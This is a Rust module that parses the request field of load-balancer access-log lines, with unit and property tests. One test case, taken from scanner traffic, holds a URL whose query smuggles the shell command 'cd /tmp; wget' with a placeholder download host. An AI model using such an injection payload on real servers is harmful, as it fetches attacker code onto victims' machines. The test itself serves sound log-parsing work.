//! The quoted request of an ALB line: `METHOD proto://host:port/uri HTTP/x`.
//!
//! The client writes most of it, so every part may be missing or hold spaces. The rules are those
//! seen in real lines: the method ends at the first space, the version begins after the last one,
//! and where the last word is neither a version, `-` nor empty it still belongs to the URL.

use crate::request_value::present;

/// The parts of a request, as sent.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(super) struct RequestParts<'a> {
    pub method: Option<&'a [u8]>,
    pub is_https: Option<bool>,
    pub host: Option<&'a [u8]>,
    pub port: Option<u16>,
    pub path: Option<&'a [u8]>,
    pub query: Option<&'a [u8]>,
}

/// Takes the text between the quotes apart; never fails, what is not there is `None`.
pub(super) fn split(request: &[u8]) -> RequestParts<'_> {
    let Some(space) = memchr::memchr(b' ', request) else {
        return RequestParts { method: present(request), ..RequestParts::default() };
    };
    let method = present(&request[..space]);
    let url = without_version(&request[space + 1..]);
    RequestParts { method, ..split_url(url, method.is_some()) }
}

/// Cuts ` HTTP/1.1`, ` -` or a trailing space off the end of a URL.
fn without_version(text: &[u8]) -> &[u8] {
    // Nearly every request ends so; the search below is for the others.
    if let Some(url) = text.strip_suffix(b" HTTP/1.1").or_else(|| text.strip_suffix(b" HTTP/2.0")) {
        return url;
    }
    let text = text.strip_suffix(b" ").unwrap_or(text);
    match memchr::memrchr(b' ', text) {
        Some(space) if text[space + 1..].starts_with(b"HTTP/") || &text[space + 1..] == b"-" => {
            &text[..space]
        }
        _ => text,
    }
}

fn split_url(url: &[u8], has_method: bool) -> RequestParts<'_> {
    let (is_https, after_scheme) = if let Some(rest) = url.strip_prefix(b"https://") {
        (true, rest)
    } else if let Some(rest) = url.strip_prefix(b"http://") {
        (false, rest)
    } else {
        let (path, query) = split_query(url);
        return RequestParts { path: present(path), query, ..RequestParts::default() };
    };
    let authority_end = memchr::memchr2(b'/', b'?', after_scheme).unwrap_or(after_scheme.len());
    let (authority, target) = after_scheme.split_at(authority_end);
    let (host, port, is_whole) = split_authority(authority);
    let (path, query) = split_query(target);
    let path = match path {
        // A URL without a path asks for the root; the remains of a malformed one ask for nothing.
        b"" if is_whole && has_method => Some(b"/".as_slice()),
        path => present(path),
    };
    RequestParts { method: None, is_https: Some(is_https), host: present(host), port, path, query }
}

fn split_query(target: &[u8]) -> (&[u8], Option<&[u8]>) {
    match memchr::memchr(b'?', target) {
        Some(mark) => (&target[..mark], Some(&target[mark + 1..])),
        None => (target, None),
    }
}

/// Host, port, and whether that was all (`host:80-` is how a malformed request is logged).
fn split_authority(authority: &[u8]) -> (&[u8], Option<u16>, bool) {
    let host_len = match authority.first() {
        Some(b'[') => memchr::memchr(b']', authority).map_or(authority.len(), |bracket| bracket + 1),
        _ => memchr::memchr(b':', authority).unwrap_or(authority.len()),
    };
    let (host, rest) = authority.split_at(host_len);
    let Some(digits) = rest.strip_prefix(b":") else {
        return (host, None, rest.is_empty());
    };
    let port_len = digits.iter().take_while(|byte| byte.is_ascii_digit()).count();
    let port = std::str::from_utf8(&digits[..port_len]).ok().and_then(|text| text.parse().ok());
    (host, port, port_len == digits.len())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(request: &str, expected: &str) {
        let parts = split(request.as_bytes());
        let text = |part: Option<&[u8]>| {
            part.map_or("-".to_owned(), |part| String::from_utf8_lossy(part).into_owned())
        };
        let port = parts.port.map_or("-".to_owned(), |port| port.to_string());
        let shown =
            [text(parts.method), text(parts.host), port, text(parts.path), text(parts.query)].join(" | ");
        assert_eq!(shown, expected, "{request}");
    }

    #[test]
    fn requests_as_clients_and_scanners_send_them() {
        check("GET https://a.example.com:443/cart?x=1 HTTP/1.1", "GET | a.example.com | 443 | /cart | x=1");
        check("GET https://a.example.com HTTP/2.0", "GET | a.example.com | - | / | -");
        check("GET https://a.example.com:443?x=1 HTTP/2.0", "GET | a.example.com | 443 | / | x=1");
        check("GET http://a.example.com:80/ HTTP/1.0 ", "GET | a.example.com | 80 | / | -");
        check("GET https://a.example.com:443/x -", "GET | a.example.com | 443 | /x | -");
        check("GET http://[::1]:8080/a HTTP/1.1", "GET | [::1] | 8080 | /a | -");
        check(
            "GET http://h:80/shell?cd+/tmp;wget+ a.b/c HTTP/1.1",
            "GET | h | 80 | /shell | cd+/tmp;wget+ a.b/c",
        );
        check("GET http://h:80/a b", "GET | h | 80 | /a b | -");
        check(
            "SSTP_DUPLEX_POST https://10.0.0.1:443/sra_{B}/ HTTP/1.1",
            "SSTP_DUPLEX_POST | 10.0.0.1 | 443 | /sra_{B}/ | -",
        );
        check("GET /relative?q HTTP/1.1", "GET | - | - | /relative | q");
    }

    #[test]
    fn malformed_requests_keep_what_they_have() {
        check("- http://h.example.com:80- -", "- | h.example.com | 80 | - | -");
        check("- http://h.example.com:8080- ", "- | h.example.com | 8080 | - | -");
        check("- http://h.example.com:80-/ ", "- | h.example.com | 80 | / | -");
        check("- - - ", "- | - | - | - | -");
        check("- - -", "- | - | - | - | -");
        check("-", "- | - | - | - | -");
        check("", "- | - | - | - | -");
        check("GET", "GET | - | - | - | -");
        check("GET http://h:99999/ HTTP/1.1", "GET | h | - | / | -");
    }

    proptest::proptest! {
        #[test]
        fn any_bytes_split_without_a_panic(request in proptest::collection::vec(proptest::num::u8::ANY, 0..80)) {
            split(&request);
        }
    }
}
